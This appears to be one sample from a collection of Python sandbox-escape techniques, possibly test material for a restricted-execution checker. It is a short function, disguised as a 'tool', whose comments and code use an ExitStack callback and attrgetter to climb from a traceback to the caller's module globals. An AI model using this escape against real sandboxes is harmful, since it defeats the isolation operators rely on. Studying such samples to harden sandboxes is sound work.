# family: introspection
# escape: contextlib.ExitStack.push(callback) hands the callback (exc_type, exc, traceback) without any
# __traceback__ read; the attrgetter class (type() of an attrgetter) then follows the run-time path
# "tb_frame.f_back.f_globals" to the caller's module namespace.
import contextlib
import operator

def tool(path: str = "tb_frame.f_back.f_globals") -> list:
    seen = []
    with contextlib.ExitStack() as stack:
        stack.push(lambda kind, error, tb: seen.append(tb) or True)
        raise LookupError(path)
    return sorted(type(operator.attrgetter("real"))(path)(seen[0]))
